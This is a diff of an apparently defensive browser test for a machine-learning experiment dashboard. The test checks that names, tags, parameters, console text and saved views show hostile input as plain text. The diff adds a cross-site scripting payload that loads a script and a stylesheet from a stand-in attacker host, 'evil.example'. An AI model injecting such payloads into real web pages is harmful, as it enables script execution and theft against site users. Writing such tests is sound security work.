@@ -1,29 +1,24 @@
-import { Task } from "@clearml-ts/tasks";
 import { expect, test } from "vitest";
+import { fillEveryPage } from "./every-page.ts";
 import { openSite } from "./site.ts";
 
-/** Runs when a page reads it as HTML. */
-const attack = '<img src=x onerror="window.attacked = true"><script>window.attacked = true</script>';
+/** Runs when a page reads it as HTML, and asks another host. */
+const attack =
+  '<img src=x onerror="window.attacked = true"><script src="https://evil.example/a.js"></script><style>@import "https://evil.example/a.css"</style>';
 
-test("names, parameters, console lines and previews are shown as text, whatever is in them", async () => {
+test("names, tags, parameters, console lines and previews are shown as text, whatever is in them", async () => {
   const { connection, tab, at, complaints } = await openSite();
-  const task = await Task.init(
-    { project: "Hostile", name: attack, tags: [attack], parameters: { General: { [`a ${attack}`]: attack } } },
-    { connection },
-  );
-  task.logger.reportText(`\u001b[31m${attack}\u001b[0m`);
-  task.logger.reportScalar(attack, attack, 1, { iteration: 0 });
-  await task.uploadArtifact("text", { json: attack });
-  await task.complete();
-  await task.close();
   const { page } = tab;
-  for (const path of [
-    "/",
-    "/projects/*",
-    ...["", "/scalars", "/console", "/artifacts"].map((tab) => `/tasks/${task.id}${tab}`),
-  ]) {
+  await connection.services.users.setPreferences({
+    preferences: { clearmlTs: { views: [{ name: attack, address: "/projects/*" }] } },
+  });
+  for (const { path, text } of await fillEveryPage(connection, attack)) {
     await page.goto(at(path));
-    await page.getByText("onerror").first().waitFor({ state: "attached" });
+    await page.getByText(text).first().waitFor({ state: "attached" });
+    for (const panel of await page.locator("summary").all()) {
+      await panel.click();
+      await panel.click();
+    }
     expect(await page.evaluate("'attacked' in window")).toBe(false);
   }
   expect(complaints).toEqual([]);
